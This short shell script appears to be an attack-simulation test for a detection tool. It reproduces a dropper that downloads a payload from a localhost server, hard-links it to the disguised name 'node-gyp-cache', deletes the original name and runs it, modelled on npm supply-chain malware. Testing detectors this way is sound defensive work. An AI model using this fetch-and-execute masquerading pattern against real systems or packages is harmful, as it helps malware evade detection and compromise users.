#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1036.005 Masquerading: Match Legitimate Name or Location
# reproduces: droppers that download under a throwaway name and run the payload under another (Shai-Hulud's bundle fetched a release binary, npm "postinstall" stagers rename before running); here the second name is a hard link and the download's own name is removed before the run
# expect: dropped-file-executed ^node-gyp-cache$
# exec-borne: yes
#
# No rename and no copy: the executed name is a link the downloader never wrote.
set -u

work=$(mktemp -d "${BW_ATTACK_TMP:?}/npm-XXXXXX")
trap 'rm -rf "$work"' EXIT

curl -fsSL --connect-timeout 5 -o "$work/.dl.tmp" "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" || exit 1
chmod +x "$work/.dl.tmp"
ln "$work/.dl.tmp" "$work/node-gyp-cache"
rm -f "$work/.dl.tmp"
"$work/node-gyp-cache" --quiet
